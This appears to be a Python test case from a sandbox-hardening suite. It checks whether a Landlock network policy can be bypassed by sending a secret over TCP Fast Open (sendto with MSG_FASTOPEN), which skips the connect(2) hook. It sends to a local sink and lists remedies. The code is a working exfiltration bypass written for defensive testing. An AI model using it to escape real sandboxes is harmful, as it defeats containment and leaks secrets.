# SPDX-License-Identifier: MIT
"""Goal:  bytes reach the attacker's host, though a rule set allows no TCP port.
Means: sendto(2) with MSG_FASTOPEN connects by itself. Landlock's rule on ports stands at
       connect(2), which is not called; kernels that know this gap ask here as well.
"""

import socket

from attack import DONE, attempting, denied


def run(brief):
    attempting()
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sink:
            sink.sendto(brief.secret.encode(), socket.MSG_FASTOPEN, ("127.0.0.1", brief.sink))
    except OSError as why:
        return denied("sendto MSG_FASTOPEN", why)
    return DONE


ATTACK = {
    "effect": "bytes reach the attacker's host",
    "means": "TCP Fast Open: sendto(2) connects where no rule is asked",
    "oracle": "sink",
    "attack_id": "T1041, CWE-693",
    "remedy": "seccomp without socket(2); a network namespace",
    "refs": ["landlock(7)", "tcp(7), TCP_FASTOPEN"],
    "run": run,
}
